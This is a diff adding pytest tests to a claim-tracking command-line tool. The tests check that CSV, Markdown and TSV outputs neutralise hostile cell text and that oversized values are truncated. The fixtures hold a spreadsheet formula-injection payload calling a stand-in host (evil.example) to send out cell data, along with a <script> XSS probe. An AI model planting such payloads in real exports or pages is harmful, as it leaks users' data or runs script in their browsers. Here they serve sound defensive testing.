@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import errno
 import os
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -112,3 +113,108 @@ def test_a_backup_is_whole_or_absent(
     umask = os.umask(0)
     os.umask(umask)
     assert backup.stat().st_mode & 0o777 == 0o666 & ~umask  # not mkstemp's private 0600
+
+
+# -- output that stays what it claims to be --------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1, "click")', "+SUM(A1:A9)", "@SUM(A1)"]
+
+
+@pytest.fixture
+def hostile_text(seeded: Engine, run: Runner) -> Runner:
+    """Claims whose text a spreadsheet, a Markdown table or TSV would take
+    for something else; the loader admits them (they are text)."""
+    texts = {
+        "formula-claim-1": FORMULAS[0], "formula-claim-2": FORMULAS[1],
+        "formula-claim-3": FORMULAS[2],
+        "table-breaking-claim": "A | B | C\nsecond line <script>alert(1)</script> \\| end",
+        "tabbed-claim": "\tIndented, with a \\ backslash\r\nand a\tsecond line",
+    }  # fmt: skip
+    for key, claim_text in texts.items():
+        added = run(
+            "add", "claim", "--by", "Miller", "--text", claim_text, "--id", key, "--new",
+            "--source", "star-advertiser-20240618", "--quote", "Moscow and Pyongyang",
+        )  # fmt: skip
+        assert added.exit_code == 0, added.output
+    return run
+
+
+@pytest.mark.parametrize("listing", [["claims"], ["contested"], ["timeline"], ["actors"]])
+def test_every_csv_listing_neutralises_formulas(hostile_text: Runner, listing: list[str]) -> None:
+    """`-f csv` listings emitted =HYPERLINK(...) unprefixed, though `export
+    -f csv` neutralised it: one rule for every CSV."""
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(hostile_text(*listing, "-f", "csv").stdout)))
+    assert rows
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    if listing == ["claims"]:
+        cells = {cell for row in rows for cell in row}
+        assert {"'" + f for f in FORMULAS} <= cells
+
+
+def test_a_github_table_keeps_its_columns_and_no_html(hostile_text: Runner) -> None:
+    """A cell holding | or a line break split the table (12 cells under a
+    7-column header) and <script> passed through."""
+    from markdown_it import MarkdownIt
+
+    out = hostile_text("claims", "-f", "github").stdout
+    tokens = MarkdownIt("commonmark").enable("table").parse(out)
+    rows: list[list[str]] = []
+    for n, token in enumerate(tokens):
+        if token.type == "tr_open":
+            rows.append([])
+        elif token.type == "inline" and tokens[n - 1].type in ("th_open", "td_open"):
+            rows[-1].append(token.content)
+        assert token.type not in ("html_block", "html_inline")
+        assert not any(c.type in ("html_inline", "html_block") for c in token.children or [])
+    assert {len(row) for row in rows} == {7}
+    [breaking] = [row for row in rows if row[0] == "table-breaking-claim"]
+    rendered = MarkdownIt("commonmark").enable("table").renderInline(breaking[1])
+    assert rendered == ("A | B | C second line &lt;script&gt;alert(1)&lt;/script&gt; \\| end")
+
+
+def test_tsv_is_exact(hostile_text: Runner) -> None:
+    """A leading tab became a space, a line break a space; TSV is documented
+    as exact: \\\\, \\t, \\n and \\r stand for them."""
+    import json
+
+    def unescape(cell: str) -> str:
+        escapes = {"\\\\": "\\", "\\t": "\t", "\\n": "\n", "\\r": "\r"}
+        return re.sub(r"\\[\\tnr]", lambda m: escapes[m[0]], cell)
+
+    lines = hostile_text("claims", "-f", "tsv").stdout.rstrip("\n").split("\n")
+    header = lines[0].split("\t")
+    rows = [dict(zip(header, map(unescape, line.split("\t")), strict=True)) for line in lines[1:]]
+    stored = {c["id"]: c["text"] for c in json.loads(hostile_text("claims", "-f", "json").stdout)}
+    assert {r["ID"]: r["Claim"] for r in rows} == stored
+    assert stored["tabbed-claim"].startswith("\t")
+
+
+def test_one_huge_value_costs_a_table_a_few_lines(
+    seeded: Engine, run: Runner, tmp_path: Path
+) -> None:
+    """A claim of one 1,000,000-character word made `tracker claims` print
+    317 MB in 1.2 GB of memory (10M: MemoryError); a table shows 2,000
+    characters of a value and says how long it is."""
+    import json
+
+    from tracker.limits import MAX_CELL
+
+    path = tmp_path / "long.yaml"
+    path.write_text(
+        "claims:\n- id: long-word\n  text: " + "w" * 1_000_000 + "\n  claimants: [matthew-miller]\n"
+        "  appearances:\n  - source: star-advertiser-20240618\n    quote: Moscow and Pyongyang\n",
+        encoding="utf-8",
+    )
+    assert run("load", str(path)).exit_code == 0
+    for args in (["claims"], ["timeline"], ["by-actor", "Miller"], ["claims", "-f", "github"]):
+        out = run(*args).stdout
+        assert "(1,000,000 characters; -f json shows all)" in out
+        # A grid's lines wrap its words; a Markdown row holds the cut value whole.
+        assert len(out) < 200_000 and max(map(len, out.splitlines())) < 4 * MAX_CELL, args
+    [whole] = [c for c in json.loads(run("claims", "-f", "json").stdout) if c["id"] == "long-word"]
+    assert whole["text"] == "w" * 1_000_000
